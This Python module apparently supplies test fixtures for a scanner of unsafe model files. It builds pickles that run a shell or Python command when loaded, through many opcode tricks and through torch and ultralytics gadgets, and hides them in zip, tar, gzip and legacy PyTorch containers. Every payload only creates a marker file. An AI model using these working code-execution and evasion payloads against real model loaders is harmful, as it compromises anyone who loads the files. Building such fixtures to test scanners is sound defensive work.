"""Pickles that create a file when they are unpickled, by different opcodes, and the containers that they come in."""

import gzip
import io
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

PROTO2, PROTO4, STOP = b"\x80\x02", b"\x80\x04", b"."
EVIL_YAML = "evil.yaml"


def text(value: str) -> bytes:
    """Return the opcode that pushes a text."""
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Return the opcodes that call a function."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


class Reduced:
    """Pickles as a call of a function."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.function, self.arguments


def touch(marker: Path) -> str:
    """Return a shell command that creates a file."""
    return f"touch '{marker}'"


def python_touch(marker: Path) -> str:
    """Return a Python expression that creates a file."""
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def set_state(marker: Path, new: bytes) -> bytes:
    """Return opcodes that give an object a function as its `__setstate__`, and then call it."""
    return new + b"}" + text("__setstate__") + b"cos\nsystem\nsb" + text(touch(marker)) + b"b"


def storage_gadget(marker: Path) -> bytes:
    """Return a pickle that calls torch's own function that unpickles bytes."""
    inner = PROTO2 + call("os", "system", text(touch(marker))) + STOP
    legacy = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {})) + inner
    return PROTO4 + call("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(legacy)) + legacy) + STOP


def layer_gadget(marker: Path) -> bytes:
    """Return a pickle that calls the constructor of a layer, which evaluates a model YAML that lies beside it."""
    yaml = marker.parent / EVIL_YAML
    yaml.write_text(f'activation: "{python_touch(marker)}"\nnc: 1\nbackbone:\n  - [-1, 1, Conv, [8, 3, 2]]\nhead: []\n')
    return PROTO2 + call("ultralytics.nn.tasks", "DetectionModel", text(str(yaml))) + STOP


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "os.system by REDUCE": lambda marker: pickle.dumps({"model": Reduced(os.system, touch(marker))}, 2),
    "eval": lambda marker: pickle.dumps({"model": Reduced(eval, python_touch(marker))}, 2),
    "exec": lambda marker: pickle.dumps({"model": Reduced(exec, python_touch(marker))}, 2),
    "os.mkdir": lambda marker: pickle.dumps({"model": Reduced(os.mkdir, str(marker))}, 2),
    "protocol 0": lambda marker: pickle.dumps(Reduced(os.system, touch(marker)), 0),
    "STACK_GLOBAL": lambda marker: pickle.dumps({"model": Reduced(os.system, touch(marker))}, 4),
    "frames of protocol 5": lambda marker: pickle.dumps({"model": Reduced(os.system, touch(marker))}, 5),
    "GLOBAL posix": lambda marker: PROTO2 + call("posix", "system", text(touch(marker))) + STOP,
    "INST": lambda marker: b"(" + text(touch(marker)) + b"ios\nsystem\n.",
    "OBJ": lambda marker: b"(cos\nsystem\n" + text(touch(marker)) + b"o.",
    "NEWOBJ and BUILD": lambda marker: PROTO2 + set_state(marker, b"cargparse\nNamespace\n)\x81") + STOP,
    "NEWOBJ_EX and BUILD": lambda marker: PROTO4 + set_state(marker, b"cargparse\nNamespace\n)}\x92") + STOP,
    "BUILD of a layer": lambda marker: (
        PROTO2 + set_state(marker, b"cultralytics.utils\nIterableSimpleNamespace\n)\x81") + STOP
    ),
    "getattr of an import": lambda marker: (
        PROTO2
        + b"c__builtin__\ngetattr\n("
        + call("__builtin__", "__import__", text("os"))
        + text("system")
        + b"tR("
        + text(touch(marker))
        + b"tR"
        + STOP
    ),
    "callable from the memo": lambda marker: PROTO2 + b"cos\nsystem\nq\x000h\x00(" + text(touch(marker)) + b"tR" + STOP,
    "torch's unpickler": storage_gadget,
    "constructor of a layer": layer_gadget,
}
"""By name: creates a pickle that creates the given file when it is unpickled."""


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return a zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def tar_of(members: dict[str, bytes]) -> bytes:
    """Return a tar archive, as PyTorch once wrote them."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


HARMLESS = pickle.dumps({"model": 1}, 2)
LEGACY = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
META = {"version": b"3\n", "byteorder": b"little"}

CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "bare pickle": lambda payload: payload,
    "zip": lambda payload: zip_of({"archive/data.pkl": payload, **{f"archive/{k}": v for k, v in META.items()}}),
    "deflated zip": lambda payload: zip_of(
        {"archive/data.pkl": payload, "archive/version": b"3\n"}, zipfile.ZIP_DEFLATED
    ),
    "zip with two pickles": lambda payload: zip_of(
        {"archive/data.pkl": HARMLESS, "archive/extra/data.pkl": payload, "archive/version": b"3\n"}
    ),
    "two folders": lambda payload: zip_of({"a/data.pkl": HARMLESS, "b/data.pkl": payload, "a/version": b"3\n"}),
    "zip in a zip": lambda payload: zip_of({"archive/data.pkl": zip_of({"archive/data.pkl": payload})}),
    "TorchScript archive": lambda payload: zip_of(
        {
            "archive/data.pkl": payload,
            "archive/constants.pkl": payload,
            "archive/code/__torch__.py": b"",
            "archive/version": b"3\n",
        }
    ),
    "gzip": gzip.compress,
    "tar": lambda payload: tar_of({"storages": payload, "tensors": payload, "pickle": payload}),
    "legacy file": lambda payload: LEGACY + payload + pickle.dumps([], 2),
    "legacy file, first pickle": lambda payload: payload + LEGACY,
    "zip behind a pickle": lambda payload: payload + zip_of({"archive/data.pkl": HARMLESS, "archive/version": b"3\n"}),
}
"""By name: wraps a pickle."""
